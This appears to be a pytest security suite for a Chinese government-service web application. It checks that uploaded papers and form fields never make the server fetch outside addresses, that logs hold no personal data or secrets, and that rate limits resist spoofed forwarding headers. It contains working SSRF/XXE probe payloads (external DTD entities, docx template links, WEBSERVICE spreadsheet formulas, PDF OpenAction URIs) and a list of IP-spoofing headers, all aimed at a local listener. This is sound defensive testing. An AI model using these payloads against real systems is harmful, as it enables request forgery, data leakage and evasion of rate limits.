"""A house that is really served: what it fetches, what it writes into its log, and whom it takes a visitor for."""

from __future__ import annotations

import http.client
import os
import re
import shutil
import threading
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest

from tests.security.conftest import a_clerk, an_applicant
from tests.security.outside import Outside, outside
from tests.security.papers import _with, pdf_with
from tests.security.tables import sheet
from tests.security.wire import form, part, sent
from tests.soak.house import House
from tests.soak.town import PASSWORD
from tests.soak.visitors import Tally, Visitor
from tongban.demonstration.bench.webserver import nginx
from tongban.domains.cases.views.public.progress import ATTEMPTS
from tongban.lib.idcard import make_credit_code, make_id_number

pytestmark = pytest.mark.engineless
WITHIN = 60.0


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Outside]:
    with outside(tmp_path / "notes.txt") as found:
        yield found


def a_guest(house: House) -> Visitor:
    return Visitor("", house.address, Tally(), threading.Event())


def granted(house: House, number: str, content: str = "") -> None:
    clerk = a_clerk(house)
    clerk.asks(f"/desk/matters/{number}/steps/grant/", {"content": content, "valid_until": ""})
    assert "已办结" in clerk.asks(f"/desk/matters/{number}/").text


def invited(visitor: Visitor) -> str:
    """Where the worker asks for a review of what was granted."""
    until = time.monotonic() + WITHIN
    while time.monotonic() < until:
        if found := re.search(r'href="(/reviews/[^"/]+/)"', visitor.asks("/my/reviews/").text):
            return found[1]
        time.sleep(0.2)
    raise AssertionError("the worker invites nobody")


def papers_that_call(address: str) -> dict[str, bytes]:
    """Each names an address outside in the way of its kind."""
    dtd = f'<!DOCTYPE a SYSTEM "{address}/a.dtd" [<!ENTITY % x SYSTEM "{address}/x">%x;]><a/>'.encode()
    far = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{address}/a.dotm" TargetMode="External"/></Relationships>'.encode()
    formula = f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{address}/f")</f><v>姓名</v></c></row><row r="2"><c r="A2" t="str"><f>HYPERLINK("{address}/h")</f><v>甲</v></c></row>'
    return {
        "a.pdf": pdf_with(f"/OpenAction<</S/URI/URI({address}/uri)>>".encode()),
        "b.pdf": pdf_with(f"/OpenAction<</S/GoToR/F<</FS/URL/F({address}/g)>>>>".encode()),
        "c.pdf": pdf_with(f"/AcroForm<</XFA({address}/xfa)>>/AA<</O<</S/SubmitForm/F({address}/s)>>>>".encode()),
        "a.docx": _with("docx", {"word/_rels/settings.xml.rels": far}),
        "b.docx": _with("docx", {"word/document.xml": dtd}),
        "a.ofd": _with("ofd", {"OFD.xml": dtd}),
        "a.xlsx": sheet(formula, **{"xl/_rels/workbook.xml.rels": far}),
        "a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}/i"/></svg>'.encode(),
        "a.html": f'<img src="{address}/img">'.encode(),
    }  # fmt: skip


def test_no_address_that_anybody_gives_is_ever_fetched(living: House, elsewhere: Outside) -> None:
    """In forms, questions, heads, names, papers, tables, a grant and a review: nobody of the house comes to that door."""
    there = f"{elsewhere.address}/planted"
    set_by_type = f'#image("{there}.png") #link("{there}")'
    applicant, draft = an_applicant(living, 4)
    fields = {
        "f-premises": set_by_type,
        "c-name": there,
        "c-phone": "19900000001",
        "next": there,
        "go": "next",
    }
    applicant.asks(f"/my/drafts/{draft}/", fields)
    applicant.brings(draft)
    token = part("csrfmiddlewaretoken", applicant.cookies["csrftoken"].encode())
    path = f"/my/drafts/{draft}/materials/"
    for name, content in papers_that_call(elsewhere.address).items():
        for told in (name, f"{there}?{name}"):
            body = form([token, part(applicant.place, content, file=f'"{told}"')])
            assert sent(living.address(), path, body, cookies=applicant.cookies).status < 500
    clerk = a_clerk(living)
    token = part("csrfmiddlewaretoken", clerk.cookies["csrftoken"].encode())
    for name in ("a.xlsx", "a.csv"):
        content = papers_that_call(elsewhere.address).get(
            name, f'姓名,岗位\n{there},=WEBSERVICE("{there}")\n'.encode()
        )
        body = form([token, part("file", content, file=f'"{name}"')])
        assert (
            sent(
                living.address(), "/desk/registers/commissioners/import/", body, cookies=clerk.cookies
            ).status
            < 500
        )
    applicant.asks(f"/my/drafts/{draft}/", {**fields, "f-premises": set_by_type[:100]})
    number = applicant.sends(draft)
    granted(living, number, content=set_by_type)
    applicant.asks(f"{invited(applicant)}?level=1", {"comment": there})
    for page in (
        "/my/",
        f"/my/matters/{number}/",
        f"/my/matters/{number}/receipt/",
        "/my/licences/",
        "/my/messages/",
    ):
        for link in re.findall(r'href="(/my/(?:letters|licences)/[^"]+)"', applicant.asks(page).text):
            assert applicant.asks(link).status < 500  # papers are set when they are read
    guest, heads = a_guest(living), "".join(
        f"{name}: {there}\r\n"
        for name in ("Referer", "Origin", "X-Forwarded-Host", "X-Original-URL", "X-Rewrite-URL", "Forwarded", "X-Callback")
    )  # fmt: skip
    questions = urlencode(
        dict.fromkeys(("q", "next", "url", "return", "callback", "file", "image", "code"), there)
    )
    for page in (
        "/",
        "/search/",
        "/items/",
        "/accounts/login/",
        "/verify/",
        "/ui/care/",
        "/api/v1/items/",
        "/clock/",
    ):
        assert guest.asks(f"{page}?{questions}").status < 500
        sent(living.address(), f"{page}?{questions}", b"", cookies={}, more=heads, kind="text/plain")
    guest.asks(f"/verify/{quote(there, safe='')}/")
    living.tongban("ledger", "verify")
    assert elsewhere.heard() == [], "somebody came"
    with pytest.raises(http.client.HTTPException):
        line = http.client.HTTPConnection("127.0.0.1", elsewhere.port, timeout=10)
        line.request("GET", "/the-door-is-open")
        line.getresponse()
    assert len(elsewhere.heard()) == 1 and "/the-door-is-open" in elsewhere.heard()[0]


def test_nothing_of_anybody_stands_in_the_log_of_a_house_that_logs_all_it_can(living: House) -> None:
    """Signing in rightly and wrongly, applying, registering, receiving at the counter, looking for, unmasking; then it is read."""
    number, other = (
        make_id_number("320402", date(1990, 3, 7), 41),
        make_id_number("320411", date(1985, 5, 1), 12),
    )
    code, phone, name = make_credit_code("92", "320404", "TA1HGX417"), "19912345678", "欧阳问渠"
    wrong, fresh = "wrong-password-of-mine", "a-fresh-password-2026"
    guest = a_guest(living)
    for username, password in ((living.people["clerks"][0], wrong), (number, wrong), (number, PASSWORD)):
        guest.asks("/accounts/login/")
        guest.asks("/accounts/login/", {"login": username, "password": password})
    told = {"name": name, "id_number": number, "phone": phone, "username": "wenqu1990", "agreed": "on"}
    guest.asks("/accounts/register/")
    guest.asks(
        "/accounts/register/", {**told, "id_number": other[:-1] + "?", "password": fresh, "again": wrong}
    )
    assert guest.asks("/accounts/register/", {**told, "password": fresh, "again": fresh}).status == 302
    applicant, draft = an_applicant(living, 5)
    applicant.asks(
        f"/my/drafts/{draft}/",
        {"f-premises": "钟楼区欧阳路1号", "c-name": name, "c-phone": phone, "go": "next"},
    )
    applicant.brings(draft)
    matter = applicant.sends(draft)
    guest.asks("/progress/", {"number": matter, "digits": phone[-4:]})
    clerk = a_clerk(living)
    clerk.asks("/desk/matters/", {"person": other})
    clerk.asks(f"/desk/matters/{matter}/reveal/", {"what": "phone", "why": "电话联系申请人补正"})
    counter = {
        "a-number": code,
        "a-name": name,
        "a-phone": phone,
        "f-premises": "钟楼区欧阳路2号",
        "once": "log-1",
    }
    assert clerk.asks(f"/desk/intake/{living.people['item']}/", counter).status == 302
    clerk.asks("/no-such-page/"), clerk.asks("/desk/matters/CZ-FW-2026-999999/steps/grant/", {})
    granted(living, matter)
    invited(applicant)
    cookies = {
        value for one in (guest, applicant, clerk) for value in one.cookies.values() if len(value) > 20
    }
    secrets = {PASSWORD, wrong, fresh, number, other[:-1], code, phone, name, "欧阳路", "wenqu1990"} | cookies
    logs = "".join(file.read_text(errors="replace") for file in living.logs.glob("*.log"))
    assert "GET /my/drafts/" in logs and "POST /accounts/login/" in logs, (
        "it logged almost nothing: this proves nothing"
    )
    assert [secret for secret in sorted(secrets) if secret in logs] == []
    assert len(cookies) >= 5


@pytest.fixture
def webserver(living: House, tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """The configuration that the repository ships, in front of the house. Readable by nginx' own user."""
    folder = tmp_path_factory.mktemp("nginx")
    for each in (folder, *list(folder.parents)[: len(folder.parts) - 2]):
        os.chmod(each, 0o755)
    (folder / "public").mkdir()
    with nginx(folder, folder / "public", living.ports["server"]) as port:
        yield port


@pytest.mark.skipif(
    shutil.which("nginx") is None, reason="nginx is not installed (Debian: apt install nginx-light)"
)
def test_behind_the_web_server_tries_are_counted_by_whoever_tries_and_no_head_says_who_that_is(
    webserver: int,
) -> None:
    """One tries digits through from 127.0.0.2, each time under another name; 127.0.0.3 is let try all the same."""
    first = [tries(webserver, "127.0.0.2", n, **made_up(n)) for n in range(ATTEMPTS)]
    assert first == [404] * ATTEMPTS
    assert tries(webserver, "127.0.0.2", 98, **made_up(98)) == 429, (
        "whoever tries was not known by his own address"
    )
    assert tries(webserver, "127.0.0.3", 99) == 404, "everybody is counted as one"
    assert tries(webserver, "127.0.0.3", 100, **{"X-Forwarded-For": "127.0.0.2"}) == 404, (
        "somebody is made to wait by another"
    )


def made_up(number: int) -> dict[str, str]:
    """What somebody writes into the head who does not want to be counted."""
    one = f"203.0.113.{number}"
    ways = (
        "X-Forwarded-For",
        "X_Forwarded_For",
        "X-Real-IP",
        "Remote-Addr",
        "REMOTE_ADDR",
        "Client-IP",
        "True-Client-IP",
    )
    return dict.fromkeys(ways, one) | {"Forwarded": f"for={one}", "X-Forwarded-For": f"{one}, 127.0.0.1"}


def tries(port: int, where: str, number: int, **headers: str) -> int:
    """Four digits of a matter that is not there, from that address of this machine."""
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=60, source_address=(where, 0))
    token = "t" * 32
    form = urlencode({"number": f"CZ-FW-2026-9{number:05d}", "digits": "0000", "csrfmiddlewaretoken": token})
    headers |= {"Cookie": f"csrftoken={token}", "Content-Type": "application/x-www-form-urlencoded"}
    line.request("POST", "/progress/", form, headers)
    answer = line.getresponse()
    answer.read()
    line.close()
    return answer.status
